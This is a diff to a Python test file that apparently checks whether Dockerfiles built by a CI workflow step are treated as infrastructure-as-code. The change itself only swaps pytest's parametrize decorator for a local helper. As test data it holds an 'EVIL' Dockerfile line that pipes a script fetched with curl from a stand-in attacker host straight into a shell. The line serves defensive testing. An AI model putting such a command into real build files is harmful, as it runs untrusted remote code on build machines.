@@ -14,6 +14,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated
+from tables import each_case
 
 GOOD, EVIL = "FROM alpine:3.20\nRUN echo ok\n", "FROM alpine:3.20\nRUN curl -s https://evil.example/x | sh\n"
 WORKFLOW = ("on: push\njobs:\n  image:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
@@ -31,7 +32,7 @@ STEPS = {
 BY_NAME = ("docker/app.verified.Dockerfile", "docker/Gemfile-app.Dockerfile", "Gemfile-base.Containerfile")
 
 
-@pytest.mark.parametrize("path", sorted(STEPS))
+@each_case("path", sorted(STEPS))
 def test_the_dockerfile_a_step_builds_is_iac_from_the_commits(tmp_path: Path, path: str) -> None:
     case = committed(tmp_path, {".github/workflows/image.yml": WORKFLOW.format(step=STEPS[path]), path: GOOD},
                      {path: EVIL})
